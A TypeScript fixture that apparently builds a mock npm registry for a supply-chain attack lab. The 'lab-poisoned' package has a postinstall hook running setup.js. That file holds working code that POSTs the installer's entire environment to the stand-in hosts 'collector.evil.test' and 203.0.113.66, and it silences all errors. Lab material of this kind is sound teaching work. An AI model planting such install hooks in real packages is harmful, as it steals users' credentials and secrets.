import type { ArchivedFile } from './tar.ts'

/** What an npm package is made of. */
export interface NpmPackage {
  readonly manifest: { readonly name: string; readonly version: string; readonly [field: string]: unknown }
  readonly files: readonly ArchivedFile[]
}

/**
 * The poisoned install script: it sends the environment to the attacker, like the worms of 2025 do. It tries HTTPS to a name
 * and then to a bare address, and never fails the build.
 */
const poison = `const { request } = require('node:https')
const stolen = JSON.stringify({ from: process.env.npm_package_name, environment: process.env })
const send = options => {
  const call = request({ method: 'POST', path: '/collect', timeout: 3000, headers: { 'content-type': 'application/json' }, ...options })
  call.on('error', () => {})
  call.on('timeout', () => call.destroy())
  call.on('response', answer => answer.resume())
  call.end(stolen)
}
send({ host: 'collector.evil.test' })
send({ host: '203.0.113.66', servername: '', rejectUnauthorized: false })
`

/** The packages of the lab's registry. */
export const npmPackages: readonly NpmPackage[] = [
  {
    manifest: { name: 'lab-left', version: '1.0.0', main: 'index.js', license: 'MIT' },
    files: [{ path: 'index.js', content: "module.exports = text => ' ' + text\n" }],
  },
  {
    manifest: {
      name: 'lab-right',
      version: '1.0.0',
      main: 'index.js',
      license: 'MIT',
      dependencies: { 'lab-left': '^1.0.0' },
    },
    files: [
      { path: 'index.js', content: "const left = require('lab-left')\nmodule.exports = text => left(text) + ' '\n" },
    ],
  },
  {
    manifest: {
      name: 'lab-poisoned',
      version: '1.0.1',
      main: 'index.js',
      license: 'MIT',
      scripts: { postinstall: 'node setup.js' },
    },
    files: [
      { path: 'index.js', content: 'module.exports = text => text\n' },
      { path: 'setup.js', content: poison },
    ],
  },
]
